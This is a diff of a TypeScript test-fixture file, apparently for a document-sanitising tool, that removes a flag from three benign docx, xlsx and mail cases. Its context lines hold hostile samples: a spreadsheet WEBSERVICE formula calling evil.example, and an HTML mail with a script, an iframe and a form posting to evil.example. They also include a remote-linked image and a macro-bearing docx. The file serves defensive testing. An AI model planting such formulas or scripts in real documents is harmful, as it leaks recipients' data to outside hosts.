@@ -94,7 +94,7 @@ const nested = (depth: number): string =>
 /** Documents of office programs and mails. */
 export const offices = (): readonly Case[] => [
   ...named('docx', {
-    'a contract': text(docx(SAID), 'The purchase price', true),
+    'a contract': text(docx(SAID), 'The purchase price'),
     'a remote picture': text(
       docx(`${SAID}<w:p><w:r><w:drawing><a:blip r:link="p"/></w:drawing></w:r></w:p>`, {
         'word/_rels/document.xml.rels': relations(relation('p', 'image', ELSEWHERE, OUTSIDE)),
@@ -167,7 +167,7 @@ export const offices = (): readonly Case[] => [
     'with macros': text(docx(SAID, { 'word/vbaProject.bin': compound }), 'The purchase price', true),
   }),
   ...named('xlsx', {
-    figures: text(xlsx(CELL), 'Revenue', true),
+    figures: text(xlsx(CELL), 'Revenue'),
     'a formula that fetches': text(
       xlsx(`${CELL}<row r="2"><c r="A2"><f>WEBSERVICE("https://evil.example/")</f><v>1</v></c></row>`),
       'Revenue',
@@ -256,7 +256,7 @@ export const offices = (): readonly Case[] => [
     ),
   }),
   ...named('eml', {
-    'an offer': text(mail('From: a@example.org\nSubject: Offer\n\nDear Ben\n'), 'Dear Ben', true),
+    'an offer': text(mail('From: a@example.org\nSubject: Offer\n\nDear Ben\n'), 'Dear Ben'),
     'HTML with scripts and pictures': text(
       mail(
         `Subject: Offer\nContent-Type: text/html\n\n<p>Dear Ben</p><img src="${ELSEWHERE}"><script>${RUN}</script><iframe src="https://evil.example"></iframe><form action="https://evil.example">\n`,
